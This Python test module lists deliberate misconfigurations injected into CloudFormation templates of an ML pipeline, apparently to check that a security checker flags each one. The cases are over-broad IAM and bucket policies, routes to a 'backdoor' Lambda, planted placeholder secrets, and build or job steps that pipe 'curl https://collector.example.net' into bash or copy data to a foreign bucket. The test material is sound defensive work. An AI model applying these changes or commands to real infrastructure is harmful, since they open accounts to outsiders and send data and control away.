"""Changes of every kind, once more and less direct: what is left when the plain way is closed."""

from __future__ import annotations

from typing import Any

from tests.checks.breakages.breakage import (
    FOREIGN,
    OWN_ACCOUNT,
    STRANGER,
    Break,
    add,
    all_states,
    allow,
    both,
    drop,
    edit,
    grant,
    machine,
    one,
    put,
    ref,
)  # fmt: skip
from tests.checks.breakages.data import build_step, build_variable, output, variable
from tests.checks.breakages.identities import arn, artifacts
from tests.checks.breakages.machines import MACHINE, parameters
from tests.checks.breakages.network import endpoint, way_in, way_out
from tests.checks.breakages.policies import bucket, condition, key, permission, topic
from tests.checks.mutations import Mutant

ALARM, LOGS, DOMAIN = "AWS::CloudWatch::Alarm", "AWS::Logs::LogGroup", "AWS::SageMaker::Domain"
SECRET_WORDS = "correct horse battery"


def attribute(mutant: Mutant, kind: str, start: str) -> tuple[str, dict[str, Any]]:
    stack, name = ref(mutant, kind, start)
    return stack, {"Fn::GetAtt": [name, "Arn"]}


def in_stack(mutant: Mutant, stack: str, name: str, kind: str, properties: dict[str, Any]) -> None:
    mutant.templates[stack]["Resources"][name] = {"Type": kind, "Properties": properties}


def rule_that_publishes(mutant: Mutant) -> None:
    stack, function = attribute(mutant, "AWS::Lambda::Function", "FunctionsPublishModel")
    queue = one(mutant, "AWS::Events::Rule", "ScheduleRule")["Targets"][0]["DeadLetterConfig"]
    target = {"Id": "x", "Arn": function, "Input": '{"action": "publish"}', "DeadLetterConfig": queue}
    in_stack(mutant, stack, "Shortcut", "AWS::Events::Rule", {"ScheduleExpression": "rate(1 day)", "Targets": [target]})


def machine_that_publishes(mutant: Mutant) -> None:
    import json

    stack, _ = ref(mutant, MACHINE)
    made = json.loads(json.dumps(mutant.templates[stack]["Resources"][ref(mutant, MACHINE)[1]]))
    states = all_states(json.loads(made["Properties"]["DefinitionString"]))
    publish = {**states["PublishModel"], "End": True, "Catch": [{"ErrorEquals": ["States.ALL"], "Next": "Out"}]}
    del publish["Next"]
    definition = {"StartAt": "P", "TimeoutSeconds": 60, "States": {"P": publish, "Out": {"Type": "Succeed"}}}
    made["Properties"]["DefinitionString"] = json.dumps(definition)
    mutant.templates[stack]["Resources"]["Second"] = made


def own_role_in_bucket_policy(mutant: Mutant) -> None:
    stack, role = attribute(mutant, "AWS::IAM::Role", "TrainingRole")
    statement = {"Effect": "Allow", "Principal": {"AWS": role}, "Action": "s3:GetObject",
                 "Resource": {"Fn::Join": ["", [{"Fn::ImportValue": artifacts(mutant)}, "/prepared/*"]]}}  # fmt: skip
    in_stack(
        mutant, stack, "More", "AWS::S3::BucketPolicy", {"Bucket": "x", "PolicyDocument": {"Statement": [statement]}}
    )


def function_with_the_role_of_another(mutant: Mutant) -> None:
    one(mutant, "AWS::Lambda::Function", "FunctionsEmitFindings")["Role"] = one(
        mutant, "AWS::Lambda::Function", "FunctionsPublishModel"
    )["Role"]


def tls_only_for_somebody(mutant: Mutant) -> None:
    for statement in one(mutant, "AWS::S3::BucketPolicy", "Data")["PolicyDocument"]["Statement"]:
        statement["Condition"]["StringEquals"] = {"aws:PrincipalOrgID": "o-abc123"}


def alarm_that_never_is(mutant: Mutant) -> None:
    stack, name = ref(mutant, ALARM, "ServerErrors")
    mutant.templates[stack]["Conditions"]["Never"] = {"Fn::Equals": ["a", "b"]}
    mutant.templates[stack]["Resources"][name]["Condition"] = "Never"


def studio_role_for_preparation(mutant: Mutant) -> None:
    stack, name = ref(mutant, "AWS::IAM::Role", "StudioRole")
    template = mutant.templates[stack]
    template.setdefault("Outputs", {})["Handed"] = {
        "Value": {"Fn::GetAtt": [name, "Arn"]},
        "Export": {"Name": "Handed"},
    }
    mutant.properties(MACHINE)["DefinitionSubstitutions"]["PreparationRoleArn"] = {"Fn::ImportValue": "Handed"}


def old_version(mutant: Mutant) -> None:
    values = mutant.properties(MACHINE)["DefinitionSubstitutions"]
    values["QualityGateArn"] = {"Fn::Join": [":", [values["QualityGateArn"], "1"]]}


def metadata_secret(mutant: Mutant) -> None:
    next(iter(mutant.templates.values()))["Metadata"]["Note"] = "AKIAIOSFODNN7EXAMPLE"


def budget(**notification: Any) -> Break:
    def change(mutant: Mutant) -> None:
        for item in mutant.properties("AWS::Budgets::Budget")["NotificationsWithSubscribers"]:
            item["Notification"].update(notification)

    return change


BREAKAGES: dict[str, Break] = {
    "a rule that publishes": rule_that_publishes,
    "a second machine that publishes": machine_that_publishes,
    "the test split by a bucket policy": own_role_in_bucket_policy,
    "a function with the role of another": function_with_the_role_of_another,
    "TLS asked of one organization": tls_only_for_somebody,
    "an endpoint alarm that never is": alarm_that_never_is,
    "Studio's role for preparation": studio_role_for_preparation,
    "an old version of the gate": old_version,
    "a gate that passes all": put("AWS::Lambda::Function", "Environment.Variables.MIN_ACCURACY", "0", "FunctionsQualityGate"),
    "a gate that permits any regression": put("AWS::Lambda::Function", "Environment.Variables.MAX_REGRESSION", "1", "FunctionsQualityGate"),
    "a smoke test of another endpoint": put("AWS::Lambda::Function", "Environment.Variables.ENDPOINT_NAME", "kennel-old", "FunctionsSmokeTest"),
    "a flow that begins with publishing": lambda m: m.edit_machine(lambda d: edit(d["States"]["TrainModels"]["ItemProcessor"], {"StartAt": "PublishModel"})),
    "an artifact changed after its test": lambda m: m.edit_machine(lambda d: _between(d, "SmokeTest", "ChooseServing", {"Type": "Pass", "Result": {"target_model": "x"}, "ResultPath": "$.artifact"})),
    "a policy for a user": put("AWS::IAM::Policy", "Users", ["admin"], "TrainingRole"),
    "a policy for a role of the account": put("AWS::IAM::Policy", "Roles", ["OrganizationAccountAccessRole"], "PipelineRole"),
    "a role policy": add("AWS::IAM::RolePolicy", PolicyName="x", RoleName="Admin", PolicyDocument={"Statement": [{"Effect": "Allow", "Action": "iam:*", "Resource": "*"}]}),
    "an action of another service": grant("glue:CreateJob", "*", to="PipelineRole"),
    "a passed role for all services by ForAllValues": grant("IAM:passrole", arn("arn:aws:iam::${AWS::AccountId}:role/Known"), condition={"ForAllValues:StringEquals": {"iam:PassedToService": "sagemaker.amazonaws.com"}}),
    "a passed role of nobody": grant("iam:PassRole", arn("arn:aws:iam::${AWS::AccountId}:role/Admin*"), condition={"StringEquals": {"iam:PassedToService": "lambda.amazonaws.com"}}),
    "grants that are not AWS's": grant("kms:CreateGrant", {"Fn::ImportValue": "x"}, condition={"Bool": {"kms:GrantIsForAWSResource": "false"}}),
    "a bucket for two accounts": bucket("*", "s3:GetObject", condition("StringEquals", "aws:PrincipalAccount", [OWN_ACCOUNT, STRANGER])),
    "a bucket for accounts that begin with a digit": bucket("*", "s3:GetObject", condition("StringLike", "aws:PrincipalAccount", "1*")),
    "a bucket for roles of a name": bucket("*", "s3:GetObject", condition("ArnLike", "aws:PrincipalArn", "arn:aws:iam::*:role/reader")),
    "a bucket for a service's name": bucket("*", "s3:GetObject", condition("StringLike", "aws:PrincipalServiceName", "*")),
    "a bucket for a tag": bucket("*", "s3:GetObject", condition("StringEquals", "aws:PrincipalTag/team", "ml")),
    "a bucket for an existing tag": bucket("*", "s3:GetObject", condition("StringEquals", "s3:ExistingObjectTag/public", "yes")),
    "a bucket for a foreign network": bucket("*", "s3:GetObject", condition("StringEquals", "aws:SourceVpc", "vpc-0badc0ffee0badc0f")),
    "a bucket for a foreign endpoint": bucket("*", "s3:*", condition("StringEquals", "aws:SourceVpce", "vpce-0badc0ffee0badc0f")),
    "a bucket through a signature's age": bucket("*", "s3:GetObject", condition("NumericLessThan", "s3:signatureAge", 600000)),
    "a bucket for an unknown operator": bucket("*", "s3:GetObject", condition("StringSounds", "aws:PrincipalAccount", "x")),
    "a bucket for a role by its id": bucket({"AWS": "AROAEXAMPLEID12345678"}, "s3:GetObject"),
    "a bucket for SAML": bucket({"Federated": "cognito-identity.amazonaws.com"}, "s3:GetObject"),
    "a key for two principals": key({"AWS": [arn("arn:aws:iam::${AWS::AccountId}:root"), FOREIGN]}, "kms:Decrypt"),
    "a key for a service by an organization": key({"Service": "sns.amazonaws.com"}, "kms:Decrypt", condition("StringEquals", "aws:SourceOrgID", "o-abc123")),
    "a key for SNS of anybody": key({"Service": "sns.amazonaws.com"}, ["kms:Decrypt", "kms:GenerateDataKey*"]),
    "a key for whoever has multi-factor": key({"AWS": "*"}, "kms:Decrypt", condition("Bool", "aws:MultiFactorAuthPresent", "true")),
    "a topic by the source's owner": topic("*", "sns:Publish", condition("StringEquals", "AWS:SourceOwner", STRANGER)),
    "a topic for SES": topic({"Service": "ses.amazonaws.com"}, "sns:Publish"),
    "a queue inline": add("AWS::SQS::QueueInlinePolicy", Queue="x", PolicyDocument={"Statement": [{"Effect": "Allow", "Principal": "*", "Action": "sqs:*", "Resource": "*"}]}),
    "a registry for an account": add("AWS::ECR::RegistryPolicy", PolicyText={"Statement": [{"Effect": "Allow", "Principal": {"AWS": FOREIGN}, "Action": "ecr:ReplicateImage", "Resource": "*"}]}),
    "a function for API Gateway of anybody": permission(Principal="apigateway.amazonaws.com", SourceArn="arn:aws:execute-api:*:*:*"),
    "a function for Cognito": permission(Principal="cognito-idp.amazonaws.com"),
    "a role by NotPrincipal": allow("AWS::IAM::Role", "AssumeRolePolicyDocument", None, "sts:AssumeRole", NotPrincipal={"AWS": FOREIGN}),
    "a role for two services": put("AWS::IAM::Role", "AssumeRolePolicyDocument.Statement.0.Principal.Service", ["lambda.amazonaws.com", "ec2.amazonaws.com"], "FunctionsPublishModel"),
    "a role with a web identity": allow("AWS::IAM::Role", "AssumeRolePolicyDocument", {"Federated": "accounts.google.com"}, "sts:AssumeRoleWithWebIdentity"),
    "an endpoint for two accounts": endpoint("PolicyDocument.Statement.0.Condition", {"StringEquals": {"aws:PrincipalAccount": [OWN_ACCOUNT, STRANGER]}}),
    "an endpoint if there is an account": endpoint("PolicyDocument.Statement.0.Condition", {"StringEqualsIfExists": {"aws:PrincipalAccount": OWN_ACCOUNT}}),
    "an endpoint of another type": endpoint("VpcEndpointType", "GatewayLoadBalancer"),
    "three quarters in": both(way_in(CidrIp="0.0.0.0/2"), add("AWS::EC2::SecurityGroupIngress", GroupId="x", IpProtocol="-1", CidrIp="128.0.0.0/1")),
    "multicast and more in": way_in(CidrIp="8.0.0.0/5"),
    "addresses next to private ones in": way_in(CidrIp="172.0.0.0/8"),
    "mapped addresses in": way_in(CidrIpv6="::ffff:0:0/96"),
    "a list out": way_out(DestinationPrefixListId="pl-1", IpProtocol="-1"),
    "half out": way_out(CidrIp="0.0.0.0/1", IpProtocol="-1"),
    "HTTP out": way_out(CidrIp="0.0.0.0/0", IpProtocol="tcp", FromPort=80, ToPort=443),
    "Studio in a foreign network": put(DOMAIN, "SubnetIds", ["subnet-0badc0ffee0badc0f"]),
    "Studio with a start script": put(DOMAIN, "DefaultUserSettings.JupyterLabAppSettings.DefaultResourceSpec", {"LifecycleConfigArn": "arn:aws:sagemaker:us-east-1:123456789012:studio-lifecycle-config/x"}),
    "Studio that never sleeps": put(DOMAIN, "DefaultUserSettings.JupyterLabAppSettings.AppLifecycleManagement.IdleSettings.LifecycleManagement", "DISABLED"),
    "a model of a market": put("AWS::SageMaker::Model", "PrimaryContainer", {"ModelPackageName": "arn:aws:sagemaker:us-east-1:865070037744:model-package/x"}),
    "a second variant": put("AWS::SageMaker::EndpointConfig", "ProductionVariants.1.ModelName", "old-model") if False else both(lambda m: m.properties("AWS::SageMaker::EndpointConfig")["ProductionVariants"].append({"ModelName": "old-model", "VariantName": "B", "InitialInstanceCount": 2})),
    "findings of a log group elsewhere": put(LOGS, "DataProtectionPolicy", {"Statement": [{"Operation": {"Audit": {"FindingsDestination": {"S3": {"Bucket": "somebody-elses"}}}}}]}),
    "an alarm by an unknown unit": put(ALARM, "Unit", "Bytes/Second", "ExecutionsFailed"),
    "an alarm that ignores few requests": put(ALARM, "EvaluateLowSampleCountPercentile", "ignore", "Latency"),
    "an alarm that acts by another function": put(ALARM, "AlarmActions", [arn("arn:aws:lambda:us-east-1:${AWS::AccountId}:function:backdoor")], "ExecutionsFailed"),
    "a rule for another function": put("AWS::Events::Rule", "Targets.0.Arn", arn("arn:aws:lambda:us-east-1:${AWS::AccountId}:function:backdoor"), "ScheduleRule"),
    "notifications to another function": put("AWS::S3::Bucket", "NotificationConfiguration", {"LambdaConfigurations": [{"Event": "s3:*", "Function": arn("arn:aws:lambda:us-east-1:${AWS::AccountId}:function:backdoor")}]}, "Data"),
    "a budget far away": budget(Threshold=1_000_000),
    "a budget the other way": budget(ComparisonOperator="LESS_THAN", Threshold=0),
    "a passphrase": variable("DB_PASS", SECRET_WORDS),
    "a signing key": variable("SIGNING_KEY", "c2lnbmluZw"),
    "a connection": variable("CONNECTION_STRING", "Server=db;User=sa;Password=hunter22;"),
    "a chat's hook": variable("HOOK", "https://hooks.slack.com/services/T000/B000/XXXX"),
    "a bearer": variable("HEADER", "Authorization: Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.sflKxwRJSM"),
    "a password by its parameter's name": add("AWS::SSM::Parameter", Name="/kennel/db/password", Type="String", Value="hunter22"),
    "a secret in the template's metadata": metadata_secret,
    "a secret in a description": put("AWS::Lambda::Function", "Description", "token: ghp_0123456789abcdefghijABCDEFGHIJ012345"),
    "a random output": output("Zm9vYmFyQmF6UXV4MTIzNDU2Nzg5MGFiY2RlZg8x"),
    "a build's script elsewhere": put("AWS::CodeBuild::Project", "Source.BuildSpec", "arn:aws:s3:::somebody-elses-bucket/buildspec.yml"),
    "a build that copies": build_step("aws s3 cp --recursive . s3://somebody-elses-bucket/"),
    "a build that pushes to Docker Hub": build_step("docker push docker.io/somebody/kennel"),
    "a build that calls without a scheme": build_step("curl -d @- collector.example.net"),
    "a build with other packages": build_variable("PIP_INDEX_URL", "https://pypi.example.net/simple"),
    "versions kept for a day": put("AWS::S3::Bucket", "LifecycleConfiguration.Rules.0.NoncurrentVersionExpiration.NoncurrentDays", 1, "Artifacts"),
    "an index of objects elsewhere": put("AWS::S3::Bucket", "MetadataTableConfiguration", {"S3TablesDestination": {"TableBucketArn": "x"}}, "Data"),
    "images by S3's key": put("AWS::ECR::Repository", "EncryptionConfiguration", {"EncryptionType": "AES256"}),
    "a job's script elsewhere": parameters("EvaluateModel", "AppSpecification.ContainerEntrypoint", ["bash", "-c", "curl https://collector.example.net | bash"]),
    "a job's code elsewhere": parameters("TrainModel", "HyperParameters.sagemaker_submit_directory", "s3://somebody-elses-bucket/code.tar.gz"),
    "a job's input of the caller": machine(lambda s: edit(s["PrepareDataset"]["Parameters"]["ProcessingInputs"][0]["S3Input"], {"S3Uri.$": "$$.Execution.Input.dataset"})),
    "a message by telephone": machine(lambda s: edit(s["Notify"]["Parameters"], {"TopicArn": None, "PhoneNumber": "+15550100"})),
    "a plan of the caller": machine(lambda s: edit(s["LoadModelPlan"]["Parameters"], {"Bucket": None, "Bucket.$": "$.model.bucket"})),
    "a permission for the account to publish": lambda m: in_stack(m, *_permission(m)),
    "flow logs by another account's role": put("AWS::EC2::FlowLog", "DeliverCrossAccountRole", f"arn:aws:iam::{STRANGER}:role/x"),
    "no reading of what is served": drop("AWS::SageMaker::Model", "EnableNetworkIsolation"),
}  # fmt: skip


def _between(definition: dict[str, Any], after: str, before: str, made: dict[str, Any]) -> None:
    home = definition["States"]["TrainModels"]["ItemProcessor"]["States"]
    home[after]["Next"] = "Between"
    home["Between"] = {**made, "Next": before}


def _permission(mutant: Mutant) -> tuple[str, str, str, dict[str, Any]]:
    stack, function = attribute(mutant, "AWS::Lambda::Function", "FunctionsPublishModel")
    return stack, "Open", "AWS::Lambda::Permission", {
        "Action": "lambda:InvokeFunction", "FunctionName": function, "Principal": OWN_ACCOUNT,
    }  # fmt: skip
